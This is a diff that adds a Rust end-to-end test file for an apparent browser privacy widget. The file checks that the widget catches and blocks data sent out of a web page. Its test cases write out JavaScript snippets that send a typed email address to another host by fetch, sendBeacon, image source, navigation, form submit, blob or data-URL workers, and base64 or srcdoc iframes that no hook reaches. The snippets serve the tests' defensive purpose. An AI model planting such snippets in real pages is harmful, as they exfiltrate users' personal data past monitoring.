@@ -1,0 +1,184 @@
+//! Leaks and innocent traffic beyond the usual: unusual ways to make a request, formats of services, other
+//! windows' natives, frames.
+
+use crate::egress::{EMAIL, arrived, arrives, elsewhere, page, types_an_address};
+use e2e::leaks::{self, Case};
+use e2e::{Page, Visitor, in_browsers, json};
+
+in_browsers! {
+    both {
+        requests_in_unusual_ways
+        elements_and_navigation
+        formats_and_codes
+        innocent_traffic
+        what_runs_in_a_realm_of_its_own
+        a_field_in_a_frame
+    }
+    chrome {
+        scripts_of_a_frame
+        a_script_cannot_allow
+    }
+}
+
+/// Fails for each that is not told, or that is.
+async fn all_are(visitor: &Visitor, wanted: bool, prefix: &str, cases: &[Case]) {
+    leaks::open(visitor, "block").await;
+    let told = leaks::told(visitor, prefix, cases).await;
+    let wrong: Vec<&str> =
+        cases.iter().zip(&told).filter(|(_, told)| **told != wanted).map(|(case, _)| case.name).collect();
+    let said = visitor.evaluates("JSON.stringify(events('leak').slice(-3))").await;
+    assert!(wrong.is_empty(), "{wrong:?}\n{}", if wanted { json!(arrived(visitor)) } else { said });
+    if wanted {
+        // Which of them it was, its host says.
+        let sent = visitor.site().other.requests().into_iter().filter(|request| request.method != "OPTIONS");
+        let sent: Vec<String> =
+            sent.map(|request| request.header("host").unwrap_or_default().to_owned()).collect();
+        assert!(sent.is_empty(), "{sent:?}");
+    }
+}
+
+async fn requests_in_unusual_ways(visitor: &Visitor) {
+    all_are(visitor, true, "request", leaks::REQUESTS).await;
+}
+
+async fn elements_and_navigation(visitor: &Visitor) {
+    all_are(visitor, true, "element", leaks::ELEMENTS).await;
+}
+
+async fn formats_and_codes(visitor: &Visitor) {
+    all_are(visitor, true, "code", leaks::CODES).await;
+}
+
+async fn innocent_traffic(visitor: &Visitor) {
+    all_are(visitor, false, "harmless", leaks::HARMLESS).await;
+}
+
+/// What a realm that no hook reaches is given counts as sent.
+async fn what_runs_in_a_realm_of_its_own(visitor: &Visitor) {
+    for (act, destination) in [
+        (
+            "new SharedWorker(URL.createObjectURL(new Blob(['onconnect = () => {}']))).port.postMessage(E)",
+            "worker",
+        ),
+        ("new Worker(URL.createObjectURL(new Blob(['fetch(\"' + X + '?e=' + E + '\")'])))", "worker"),
+        ("new Worker('data:text/javascript,fetch(\"' + X + '?e=' + E + '\")')", "worker"),
+        (
+            "{ const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'; box().append(f); }",
+            "frame",
+        ),
+        (
+            "{ const f = document.createElement('iframe'); f.src = 'data:text/html,' + pct('<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'); box().append(f); }",
+            "frame",
+        ),
+        (
+            "{ const f = document.createElement('iframe'); f.src = 'data:text/html;base64,' + btoa('<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'); box().append(f); }",
+            "frame",
+        ),
+        (
+            "{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>fetch(\"' + X + '?e=' + E + '\")<' + '/script>'], { type: 'text/html' })); box().append(f); }",
+            "frame",
+        ),
+    ] {
+        // Each is a cause that nobody has been told of.
+        visitor.opens("/privacy-policy.md").await;
+        visitor.runs("sessionStorage.clear()").await;
+        leaks::open(visitor, "block").await;
+        let told = leaks::told(visitor, "realm", &[Case { name: "", act }]).await;
+        let said = visitor.evaluates("events('leak').map(event => event.detail.destination)").await;
+        assert_eq!(said, json!([format!("{destination}://inline")]), "{act}");
+        assert_eq!(told, [true], "{act}");
+        assert_eq!(arrived(visitor), Vec::<String>::new(), "{act}");
+    }
+}
+
+/// The field that a frame of the site's own has.
+fn in_frame() -> Page {
+    Page::new("<h1>Shop</h1><iframe src=/inner width=500 height=300></iframe>")
+        .configured(|config| config["egress"] = json!({ "mode": "block" }))
+}
+
+async fn types_in_the_frame(visitor: &Visitor) {
+    let form = r#"<form data-privacy-form="public"><label>E-mail <input name="email" type="email"></label><button>Go</button></form>"#;
+    visitor.site().page("/inner", Page::new(form).without_widget());
+    visitor.site().page("/", in_frame());
+    visitor.visits("/").await;
+    visitor.runs("privacyWidget.rejectAll()").await;
+    visitor.sees("!banner() && !!one('iframe').contentDocument?.querySelector('[name=email]')").await;
+    visitor.enters_frame(0).await;
+    visitor.types("[name=email]", EMAIL).await;
+    visitor.client().clone().enter_parent_frame().await.unwrap();
+    leaks::is_watched(visitor).await;
+}
+
+async fn a_field_in_a_frame(visitor: &Visitor) {
+    types_in_the_frame(visitor).await;
+    let send = |name: &str| {
+        let address = json!(elsewhere(visitor, name, name));
+        format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(() => {{}})")
+    };
+    visitor.runs(&send("a")).await;
+    visitor.sees("events('leak').length === 1").await;
+    visitor.finds("events('leak')[0].detail.kinds", json!(["email"])).await;
+    assert_eq!(arrived(visitor), Vec::<String>::new());
+    // What is reset or taken away in there is forgotten.
+    visitor.runs("one('iframe').contentDocument.querySelector('form').reset()").await;
+    visitor.rests().await;
+    visitor.runs(&send("b")).await;
+    arrives(visitor, "b");
+    types_in_the_frame(visitor).await;
+    visitor.runs("one('iframe').remove()").await;
+    visitor.rests().await;
+    visitor.runs(&send("c")).await;
+    arrives(visitor, "c");
+}
+
+async fn scripts_of_a_frame(visitor: &Visitor) {
+    types_in_the_frame(visitor).await;
+    let inner = "one('iframe').contentWindow";
+    let act = |name: &str, act: &str| {
+        let address = json!(elsewhere(visitor, name, name)).to_string();
+        format!("const X = {address}, E = '{EMAIL}'; {act}")
+    };
+    for (at, (name, code)) in [
+        ("a", "fetch(X, { method: 'POST', body: E }).catch(() => {})"),
+        ("b", "navigator.sendBeacon(X, E)"),
+        ("c", "new Image().src = X + '?' + E"),
+        ("d", "location.href = X + '?' + E"),
+        ("e", "{ const f = document.createElement('form'); f.action = X; f.innerHTML = '<input name=e>'; f.e.value = E; document.body.append(f); f.submit(); }"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        visitor.runs(&format!("{inner}.eval({})", json!(act(name, code)))).await;
+        visitor.sees(&format!("events('leak').length === {}", at + 1)).await;
+    }
+    assert_eq!(arrived(visitor), Vec::<String>::new());
+    // The frame's natives look untouched, too.
+    visitor
+        .finds(
+            &format!(
+                "[{inner}.fetch.toString(), {inner}.Function.prototype.toString.call({inner}.fetch), {inner}.fetch instanceof {inner}.Function]
+                 .map(one => String(one).replace(/\\s+/g, ' '))"
+            ),
+            json!(["function fetch() { [native code] }", "function fetch() { [native code] }", "true"]),
+        )
+        .await;
+    visitor.runs(&format!("window.patched = {inner}.fetch; privacyWidget.destroy()")).await;
+    visitor.finds(&format!("{inner}.fetch === window.patched"), json!(false)).await;
+}
+
+async fn a_script_cannot_allow(visitor: &Visitor) {
+    visitor.site().page("/", page("ask"));
+    types_an_address(visitor, "/").await;
+    let address = json!(elsewhere(visitor, "a", "own"));
+    visitor.runs(&format!("fetch({address}, {{ method: 'POST', body: '{EMAIL}' }}).catch(error => window.outcome = error.name)")).await;
+    visitor.sees("one('dialog.leak[open]')").await;
+    for name in ["Allow once", "Allow for this visit"] {
+        visitor.runs(&format!("named('{name}').click()")).await;
+        visitor.rests().await;
+        visitor.finds("!!one('dialog.leak[open]')", json!(true)).await;
+    }
+    assert_eq!(arrived(visitor), Vec::<String>::new());
+    visitor.presses("Block").await;
+    visitor.sees("outcome === 'TypeError'").await;
+}
